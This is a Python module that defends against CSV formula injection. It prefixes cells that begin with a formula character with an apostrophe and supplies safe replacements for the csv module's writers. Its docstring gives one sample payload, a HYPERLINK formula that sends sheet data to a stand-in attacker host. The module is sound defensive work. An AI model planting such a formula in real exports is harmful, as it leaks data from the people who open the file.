"""The one way the platform writes CSV: cells that a spreadsheet would run as formulas are
neutralised (CSV / formula injection).

Excel, LibreOffice and Google Sheets treat a cell starting with ``=``, ``+``, ``-`` or ``@``
(and, after a tab or carriage return, whatever follows) as a formula: an organisation named
``=HYPERLINK("http://evil.example/?x="&A1,"…")`` would otherwise leak the sheet's data when an
operator opens an export. Such text cells get a leading apostrophe, which spreadsheets show as
plain text. Numbers (``int``, ``Decimal``, ``float``, and strings that are only a signed
number such as ``-1200``) stay numbers.

Use :func:`writer` / :func:`dict_writer` instead of :mod:`csv`'s writers everywhere
(``tests/unit/test_safe_csv.py`` fails on a direct ``csv.writer`` elsewhere in ``src``).
"""

from __future__ import annotations

import csv
import re
from collections.abc import Collection, Iterable
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def safe_cell(value: Any) -> Any:
    """``value`` as it may be written into a CSV cell (text that starts a formula quoted)."""
    if (
        isinstance(value, str)
        and value[:1] in FORMULA_PREFIXES
        and not _PLAIN_NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


class SafeWriter:
    """A :func:`csv.writer` whose rows pass through :func:`safe_cell`."""

    def __init__(self, out: Any, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: Any, **options: Any) -> SafeWriter:
    """Like ``csv.writer(out, **options)``, with formula cells neutralised."""
    return SafeWriter(out, **options)


class SafeDictWriter(csv.DictWriter):  # type: ignore[type-arg]
    """A :class:`csv.DictWriter` whose rows (and header) pass through :func:`safe_cell`."""

    def __init__(self, out: Any, fieldnames: Collection[str], **options: Any) -> None:
        super().__init__(out, fieldnames, **options)
        self.writer = SafeWriter(out, dialect=self.writer.dialect)  # type: ignore[assignment]


def dict_writer(out: Any, fieldnames: Collection[str], **options: Any) -> SafeDictWriter:
    """Like ``csv.DictWriter(out, fieldnames, **options)``, with formula cells neutralised."""
    return SafeDictWriter(out, fieldnames, **options)
